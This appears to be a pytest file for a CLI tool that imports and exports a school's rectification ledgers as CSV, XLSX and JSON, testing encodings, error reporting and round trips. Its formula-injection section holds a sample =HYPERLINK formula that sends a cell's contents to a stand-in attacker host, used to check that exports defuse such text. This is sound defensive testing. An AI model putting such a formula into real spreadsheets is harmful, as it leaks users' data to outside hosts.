"""dangqun import / export: the office's Excel ledgers in, and the same ledgers back out."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import REPO
from tests.helpers import fails, ok, run

EXAMPLE = REPO / "examples" / "zhenggai_taizhang_gbk.csv"


@pytest.fixture
def school():
    for name in ("桃花山镇小学", "学校党支部", "教务处", "学校工会"):
        ok("unit", "add", name)


def items() -> list[dict]:
    return ok("rectify", "list", "--state", "all", "--all", "--json").json()


def test_the_example_gbk_ledger(school):
    dry = ok("import", str(EXAMPLE), "--dry-run")
    assert "gb18030" in dry.out and "表头在第 3 行" in dry.out
    assert "新增" in dry.out and "没有写入任何记录" in dry.err
    assert items() == []
    ok("import", str(EXAMPLE))
    rows = {r["problem"]: r for r in items()}
    assert len(rows) == 6
    first = ok("rectify", "show", "1", "--json").json()
    assert (first["state"], first["closed_at"], first["opened_on"]) == (
        "closed",
        "2010-09-28",
        "2010-09-08",
    )
    assert first["result"].startswith("校务公开栏每月更新")
    assert rows["关心青年教师成长，丰富教职工文体活动"]["ongoing"] is True
    assert rows["教研活动流于形式，教学常规管理不到位"]["due"] == "2010-09-20"
    assert rows["教研活动流于形式，教学常规管理不到位"]["state"] == "in_progress"
    assert rows["教师考核评价办法不够科学"]["state"] == "open"
    # Importing the same file again changes nothing and adds nothing.
    again = ok("import", str(EXAMPLE))
    assert "无变化 6 条" in again.err
    assert len(items()) == 6
    entries = [e for e in ok("log", "--all", "--json").json() if e["record_type"] == "item"]
    assert len(entries) == 6
    assert {e["source"] for e in entries} == {"导入：zhenggai_taizhang_gbk.csv"}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_every_encoding_reads_the_same(school, tmp_path, encoding):
    text = EXAMPLE.read_bytes().decode("gbk")
    path = tmp_path / f"台账-{encoding}.csv"
    path.write_bytes(text.encode(encoding))
    ok("import", str(path))
    assert sorted(r["problem"] for r in items())[0] == "关心青年教师成长，丰富教职工文体活动"
    assert len(items()) == 6


def test_xlsx_with_title_rows_and_excel_dates(school, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["整改台账"])
    sheet.merge_cells("A1:H1")  # a merged title above the header, as real ledgers have
    sheet.append([])
    sheet.append(
        [
            "序号",
            "问题",
            "整改措施",
            "责任单位",
            "责任人",
            "完成时限",
            "完成情况",
            "是否销号",
            "说明（选填）",
        ]
    )
    sheet.append(
        [
            1,
            "食堂卫生",
            "每周检查",
            "学校工会",
            "刘主席",
            dt.datetime(2010, 11, 30),
            None,
            "否",
            "x",
        ]
    )
    sheet.append(
        [
            2,
            "校务公开",
            "每月公开",
            "学校党支部",
            "王书记",
            dt.datetime(2010, 10, 31),
            "已公开",
            "是",
            None,
        ]
    )
    sheet.append([3, "文体活动", "每月一次", "学校工会", "刘主席", "长期", None, None, None])
    path = tmp_path / "台账.xlsx"
    book.save(path)
    result = ok("import", str(path), "--json")
    report = result.json()
    assert report["header_row"] == 3
    assert [r["action"] for r in report["rows"]] == ["create", "create", "create"]
    assert report["unknown_columns"] == []
    rows = {r["problem"]: r for r in items()}
    assert rows["食堂卫生"]["due"] == "2010-11-30"
    assert rows["校务公开"]["state"] == "closed"
    assert rows["文体活动"]["ongoing"] is True


def test_one_bad_row_imports_nothing(school, tmp_path):
    path = tmp_path / "台账.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        out = csv.writer(f)
        out.writerow(
            ["问题描述", "责任单位", "责任人", "整改时限", "是否销号", "完成情况", "备用列"]
        )
        out.writerow(["问题一", "教务处", "张主任", "2010-10-31", "否", "", "a"])
        out.writerow(["问题二", "教务外", "张主任", "2010-10-31", "否", "", "b"])
        out.writerow(["问题三", "教务处", "张主任", "2010年2月30日", "否", "", "c"])
        out.writerow(["问题四", "教务处", "", "2010-10-31", "是", "", "d"])
    before = ok("log", "--all", "--json").json()
    result = run("import", str(path))
    assert result.code == 1
    assert result.err.count("错误：") == 1 and "3 行有误（第一处在第 3 行）" in result.err
    assert "未识别的列（不导入）：备用列" in result.out
    assert "是不是：教务处" in result.out  # row 3: the closest unit
    assert "2月没有30日" in result.out  # row 4: the impossible date
    assert "须写明完成情况" in result.out  # row 5: closed without a result
    assert items() == []
    assert ok("log", "--all", "--json").json() == before
    dry = run("import", str(path), "--dry-run", "--json")
    rows = {r["row"]: r for r in dry.json()["rows"]}
    assert rows[2]["action"] == "create"
    assert rows[3]["errors"][0]["column"] == "责任单位"
    assert rows[4]["errors"][0]["column"] == "整改时限"


def test_unknown_units_are_created_only_when_asked(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text(
        "问题描述,责任单位,责任人,整改时限\n问题,新单位,某,2010-12-31\n", encoding="utf-8"
    )
    assert "未导入任何记录" in fails("import", str(path))
    ok("import", str(path), "--create-units")
    assert [u["name"] for u in ok("unit", "list", "--json").json()] == ["新单位"]


def test_header_mapping_and_refusals(school, tmp_path):
    path = tmp_path / "t.csv"
    path.write_text(
        "问题描述,牵头科室,责任人,整改时限\n问题,教务处,某,2010-12-31\n", encoding="utf-8"
    )
    assert "未导入任何记录" in fails("import", str(path))  # 牵头科室 is not a known header
    ok("import", str(path), "--map", "牵头科室=unit")
    assert items()[0]["unit"] == "教务处"
    assert "无法识别的对应关系" in fails("import", str(path), "--map", "牵头科室=colour")
    empty = tmp_path / "empty.csv"
    empty.write_text("", encoding="utf-8")
    assert "空文件" in fails("import", str(empty))
    nohead = tmp_path / "nohead.csv"
    nohead.write_text("a,b\n1,2\n", encoding="utf-8")
    assert "找不到表头" in fails("import", str(nohead))
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04" + os.urandom(200))
    assert "不是有效的 XLSX" in fails("import", str(broken))
    latin = tmp_path / "latin.csv"
    latin.write_bytes("问题描述,责任单位\n".encode("utf-16"))
    assert "--encoding" in fails("import", str(latin))
    assert "不认识的编码" in fails("import", str(path), "--encoding", "klingon")
    assert "是一个目录" in fails("import", str(tmp_path))
    assert "不认识的类型" in fails("import", str(path), "--type", "cars")


def test_export_formats(examples, tmp_path):
    from openpyxl import load_workbook

    ok("export", "items", "--format", "csv", "--output", str(tmp_path / "a.csv"))
    raw = (tmp_path / "a.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the BOM
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:4] == ["序号", "编号", "问题描述", "整改措施"]
    assert len(rows) == 5  # header and four items, closed ones included
    assert "长期坚持" in {cell for row in rows for cell in row}

    ok("export", "items", "--format", "xlsx", "--output", str(tmp_path / "a.xlsx"))
    sheet = load_workbook(tmp_path / "a.xlsx").worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet["C1"].value == "问题描述" and sheet["C1"].font.bold
    due_column = [c.value for c in sheet["I"][1:]]
    assert any(isinstance(v, dt.datetime) for v in due_column)  # real date cells
    assert sheet.column_dimensions["C"].width >= 30

    ok("export", "items", "--format", "json", "--output", str(tmp_path / "a.json"), "--overdue")
    import json

    data = json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))
    assert [d["id"] for d in data] == [2]
    assert data[0]["due"] == "2010-09-20" and data[0]["state"] == "in_progress"
    assert "不支持的格式" in fails("export", "items", "--format", "pdf", "--output", "x")
    assert "目录不存在" in fails(
        "export", "items", "--format", "csv", "--output", str(tmp_path / "no" / "x.csv")
    )


def _export_all(folder: Path, fmt: str) -> dict[str, Path]:
    paths = {}
    for kind in ("meetings", "opinions", "items"):
        paths[kind] = folder / f"{kind}.{fmt}"
        ok("export", kind, "--format", fmt, "--output", str(paths[kind]))
    return paths


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_of_the_examples(examples, tmp_path, monkeypatch, new_database, fmt):
    first = _export_all(tmp_path, fmt)
    before = {k: _csv_text(k, tmp_path / "before") for k in first}
    monkeypatch.setenv("DANGQUN_DB", str(new_database()))
    ok("import", str(first["meetings"]), "--create-units")
    ok("import", str(first["opinions"]))
    ok("import", str(first["items"]), "--create-units")
    after = {k: _csv_text(k, tmp_path / "after") for k in first}
    assert after == before


def _csv_text(kind: str, folder: Path) -> str:
    folder.mkdir(exist_ok=True)
    path = folder / f"{kind}.csv"
    ok("export", kind, "--format", "csv", "--output", str(path))
    return path.read_text(encoding="utf-8-sig")


# Text a secretary might type: Chinese, ASCII, punctuation; no control characters.
words = (
    st.text(
        alphabet=st.sampled_from(
            list("校务公开整改落实教研减负会议纪要abcXYZ0123（）—，。、：；“”")
        ),
        min_size=1,
        max_size=30,
    )
    .map(str.strip)
    .filter(bool)
)
ledger = st.lists(
    st.fixed_dictionaries(
        {
            "problem": words,
            "unit": st.sampled_from(["教务处", "学校工会", "学校党支部"]),
            "owner": words,
            "due": st.one_of(st.none(), st.dates(dt.date(2010, 9, 1), dt.date(2011, 12, 31))),
            "closed": st.booleans(),
            "result": st.one_of(st.none(), words),
            # The columns real ledgers add (issue 14): every one must come back.
            "category": st.one_of(st.none(), words),
            "target": st.one_of(st.none(), words),
            "partners": st.lists(st.sampled_from(["团支部", "妇委会"]), max_size=2, unique=True),
            "extend": st.booleans(),
        }
    ),
    min_size=1,
    max_size=6,
    unique_by=lambda r: (r["problem"], r["unit"]),
)


@settings(
    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(records=ledger, fmt=st.sampled_from(["csv", "xlsx"]))
def test_round_trip_of_generated_ledgers(monkeypatch, new_database, records, fmt):
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        monkeypatch.setenv("DANGQUN_DB", str(new_database()))
        for name in ("教务处", "学校工会", "学校党支部"):
            ok("unit", "add", name)
        for r in records:
            args = [
                "rectify",
                "add",
                "--problem",
                r["problem"],
                "--unit",
                r["unit"],
                "--owner",
                r["owner"],
                "--date",
                "2010-09-01",
            ]
            args += ["--due", r["due"].isoformat()] if r["due"] else ["--ongoing"]
            args += ["--category", r["category"]] if r["category"] else []
            args += ["--target", r["target"]] if r["target"] else []
            args += [a for p in r["partners"] for a in ("--partners", p)]
            item_id = ok(*args).id
            if r["extend"] and r["due"]:
                later = (r["due"] + dt.timedelta(days=30)).isoformat()
                ok(
                    *["rectify", "extend", str(item_id), "--to", later],
                    *["--reason", "寒假", "--date", "2010-09-02"],
                )
            if r["closed"] or r["result"]:
                ok("rectify", "note", str(item_id), "开始", "--date", "2010-09-02")
            if r["closed"]:
                ok(
                    "rectify",
                    "submit",
                    str(item_id),
                    "--result",
                    r["result"] or "完成",
                    "--date",
                    "2010-09-03",
                )
                ok("rectify", "verify", str(item_id), "--by", "验收人", "--date", "2010-09-04")
        exported = folder / f"items.{fmt}"
        ok("export", "items", "--format", fmt, "--output", str(exported))
        before = _csv_text("items", folder / "before")
        monkeypatch.setenv("DANGQUN_DB", str(new_database()))
        ok("import", str(exported), "--create-units")
        assert _csv_text("items", folder / "after") == before


def test_xlsx_sheet_by_name(school, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "说明"
    book.active.append(["本文件第二个工作表是台账"])
    sheet = book.create_sheet("2010年")
    sheet.append(["问题描述", "责任单位", "责任人", "整改时限"])
    sheet.append(["食堂卫生", "学校工会", "刘主席", "2010年11月30日"])
    path = tmp_path / "两个表.xlsx"
    book.save(path)
    assert "找不到表头" in fails("import", str(path))
    assert "本文件的工作表：说明、2010年" in fails("import", str(path), "--sheet", "2011年")
    ok("import", str(path), "--sheet", "2010年")
    assert [r["problem"] for r in items()] == ["食堂卫生"]


# ---- text a spreadsheet would run as a formula -----------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
FORMULA_LIKE = {"problem": EVIL, "measures": "=按月检查", "leader": "+王校长"}


@pytest.mark.no_database
@given(st.text())
def test_defuse_then_restore_is_the_identity(text):
    from dangqun_cli.transfer.formulas import TRIGGERS, defuse, restore

    assert restore(defuse(text)) == text
    assert not defuse(text).startswith(TRIGGERS)
    assert restore(defuse(defuse(text))) == defuse(text)


@pytest.mark.no_database
@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("''@x", "'''@x"),
        ("'普通", "'普通"),
        ("普通=1", "普通=1"),
        ("", ""),
    ],
)
def test_defused_cells(text, cell):
    from dangqun_cli.transfer.formulas import defuse, restore

    assert defuse(text) == cell
    assert restore(cell) == text


def _formula_item() -> int:
    ok("unit", "add", "教务处")
    args = ["rectify", "add", "--unit", "教务处", "--owner", "张主任", "--due", "2010-12-31"]
    for key, text in FORMULA_LIKE.items():
        args += [f"--{key}", text]
    return ok(*args).id


def test_a_formula_is_exported_as_text(tmp_path):
    import zipfile

    from openpyxl import load_workbook

    _formula_item()
    ok("export", "items", "--format", "xlsx", "--output", str(tmp_path / "a.xlsx"))
    sheet = load_workbook(tmp_path / "a.xlsx").worksheets[0]
    headers = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(headers, sheet[2], strict=True)}
    for header, text in (("问题描述", EVIL), ("整改措施", "=按月检查"), ("责任领导", "+王校长")):
        assert row[header].data_type == "s" and row[header].value == text
    xml = zipfile.ZipFile(tmp_path / "a.xlsx").read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml

    ok("export", "items", "--format", "csv", "--output", str(tmp_path / "a.csv"))
    rows = list(csv.DictReader(io.StringIO((tmp_path / "a.csv").read_text("utf-8-sig"))))
    assert rows[0]["问题描述"] == "'" + EVIL
    assert rows[0]["整改措施"] == "'=按月检查"
    assert rows[0]["责任领导"] == "'+王校长"


def test_every_text_of_a_meeting_and_an_opinion_is_exported_to_csv_as_text(tmp_path):
    """CSV export skips the formula test only on the cells dangqun writes itself (dates,
    labels, 是/否): every cell that holds what a person typed is guarded, lists and
    decisions included."""
    ok("unit", "add", "教务处")
    ok(
        *("meeting", "add", "--kind", "symposium", "--title", "=议题", "--date", "2010-09-06"),
        *("--place", "+会议室", "--host", "-主持", "--recorder", "@记录"),
        *("--attendee", "=张三@教务处", "--absent", "=李四:出差", "--invitee", "+王五"),
        *("--decision", "=决议一", "--decision", "二"),
    )
    ok("opinion", "add", "=意见", "--meeting", "1", "--by", "+教师代表", "--topic", "-减负")
    texts = {
        "meetings": ("会议主题", "地点", "主持人", "记录人", "出席", "缺席", "列席", "决议"),
        "opinions": ("提出人", "类别", "意见内容"),
    }
    for kind, headers in texts.items():
        path = tmp_path / f"{kind}.csv"
        ok("export", kind, "--format", "csv", "--output", str(path))
        row = next(csv.DictReader(io.StringIO(path.read_text("utf-8-sig"))))
        for header in headers:
            assert row[header].startswith("'"), (kind, header, row[header])
        assert not any(v.startswith("'") for h, v in row.items() if h not in headers), row


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_text_comes_back_byte_for_byte(tmp_path, monkeypatch, new_database, fmt):
    typed = _formula_item()  # rectify add --problem '=HYPERLINK(…)' --measures '=按月检查' …
    # The fields `rectify add` has no flag for arrive as an office's CSV would bring them.
    path = tmp_path / "更多.csv"
    path.write_text(
        "问题描述,整改措施,责任单位,责任人,整改时限,备注,佐证材料,问题来源\n"
        "'@全体教师,'-每周一次,教务处,李老师,2010-12-31,'-1 天,'@会议记录,''=引号开头\n",
        encoding="utf-8",
    )
    ok("import", str(path))
    shown = [ok("rectify", "show", str(i), "--json").json() for i in (typed, typed + 1)]
    assert {k: shown[0][k] for k in ("problem", "measures", "leader")} == {
        k: FORMULA_LIKE[k] for k in ("problem", "measures", "leader")
    }
    assert (shown[1]["problem"], shown[1]["measures"]) == ("@全体教师", "-每周一次")
    exported = tmp_path / f"台账.{fmt}"
    ok("export", "items", "--format", fmt, "--output", str(exported))
    monkeypatch.setenv("DANGQUN_DB", str(new_database()))
    ok("import", str(exported), "--create-units")
    assert [ok("rectify", "show", str(i), "--json").json() for i in (typed, typed + 1)] == shown
    again = tmp_path / "again.json"
    ok("export", "items", "--format", "json", "--output", str(again))
    data = json.loads(again.read_text(encoding="utf-8"))
    assert {k: data[0][k] for k in ("problem", "measures", "leader")} == {
        k: FORMULA_LIKE[k] for k in ("problem", "measures", "leader")
    }
    assert (data[1]["note"], data[1]["evidence"], data[1]["source"]) == (
        "-1 天",
        "@会议记录",
        "'=引号开头",
    )


# ---- issue 14 — bulk-read ----------------------------------------------------------------


def test_a_damaged_xlsx_is_refused_in_chinese(school, tmp_path):
    from tests import hostile_files as hostile

    path = hostile.damaged_xlsx(tmp_path)  # was: 内部错误：error (zlib's, uncaught)
    assert "不是有效的 XLSX 文件（zlib.error）" in fails("import", path, "--dry-run")


def test_text_like_an_xlsx_escape_comes_back_from_xlsx(tmp_path, monkeypatch, new_database):
    # XLSX writes a carriage return as _x000D_; text that holds such a sequence itself must
    # be escaped on export, or Excel (and the reader) would turn _x0041_ into "A".
    ok("unit", "add", "教务处")
    problem = "表格_x0041_与_x000D_字样"
    ok("rectify", "add", "--problem", problem, "--unit", "教务处", "--owner", "李老师", "--ongoing")
    exported = tmp_path / "台账.xlsx"
    ok("export", "items", "--format", "xlsx", "--output", str(exported))
    monkeypatch.setenv("DANGQUN_DB", str(new_database()))
    ok("import", str(exported), "--create-units")
    assert ok("rectify", "show", "1", "--json").json()["problem"] == problem
